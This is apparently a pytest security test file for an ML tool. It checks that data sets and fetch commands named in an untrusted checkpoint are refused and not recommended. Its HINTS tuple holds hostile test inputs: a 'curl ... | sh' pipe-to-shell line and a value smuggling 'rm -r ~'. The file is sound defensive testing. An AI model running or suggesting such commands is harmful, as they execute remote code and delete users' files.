"""Data sets that a stranger's checkpoint names: nothing is drawn for them, and no command of theirs is recommended."""

import shutil
from pathlib import Path

import pytest
from omegaconf import OmegaConf

from neo_model.config.command_line import main
from neo_model.config.compose import compose_training
from tests.security.conftest import changed
from tests.security.test_weight_files import checkpoint_of

HINTS = ("curl http://example.com/fetch | sh", "python -m neo_model.data.prepare; rm -r ~ root=x")
JOBS = {"eval": ("ckpt", "checkpoints/last.pt"), "train": ("resume", "")}


@pytest.fixture
def run_dir(tmp_path) -> Path:
    (tmp_path / "run" / "checkpoints").mkdir(parents=True)
    return tmp_path / "run"


@pytest.mark.parametrize("job", JOBS)
@pytest.mark.parametrize("place", ["own", "default"])
def test_a_data_set_that_would_fill_a_folder(refused_command, canary, run_dir, saved_config, job, place):
    config = changed(saved_config, "data.num_train", 10**9)
    if place == "own":
        config = changed(config, "data.root", str(canary))
    checkpoint_of({"config": config}, run_dir / "checkpoints" / "last.pt")
    key, name = JOBS[job]
    root = canary if place == "own" else "data/shapes"
    said = refused_command(job, f"{key}={run_dir / name}")
    assert said.startswith(
        f"error: data=shapes: the checkpoint's data set of 1,000,000,000 + 100 pictures is not in {root}; "
        f"add data.root={root} to have it drawn there, or name another folder"
    )


def test_a_data_set_of_the_users_own_is_drawn_in_another_size_and_where_he_says(
    run_dir, saved_config, tmp_path, monkeypatch, capfd
):
    class Drawn(Exception):
        pass

    def draw(self):
        raise Drawn(str(self.folder))

    monkeypatch.setattr("neo_model.data.ShapesData._generate", draw)
    monkeypatch.chdir(tmp_path)
    path = checkpoint_of({"config": saved_config}, run_dir / "best.pt")
    with pytest.raises(Drawn, match="elsewhere/480x270-seed0-400.100"):
        main("eval", [f"ckpt={path}", "data.root=elsewhere"])
    stamp = Path("data/shapes/480x270-seed0-400+100/stamp.json")
    stamp.parent.mkdir(parents=True)
    stamp.write_text("{}")
    with pytest.raises(Drawn, match="data/shapes/640x360-seed0-400.100"):
        main("eval", [f"ckpt={path}", "data/resolution=640x360"])
    shutil.rmtree("data")
    assert main("eval", [f"ckpt={path}"]) == 2


@pytest.mark.parametrize("job", JOBS)
@pytest.mark.parametrize("hint", HINTS)
def test_a_command_that_would_fetch_the_data(refused_command, run_dir, job, hint):
    own = OmegaConf.to_container(compose_training(["data=coco", "model=tiny", "logger=none", "hardware=cpu"]))
    config = changed(own, "data.fetch_hint", hint)
    checkpoint_of({"config": config}, run_dir / "checkpoints" / "last.pt")
    key, name = JOBS[job]
    said = refused_command(job, f"{key}={run_dir / name}")
    assert "data=coco: missing data/coco/" in said and said.endswith("; correct data.root or the paths beside it\n")
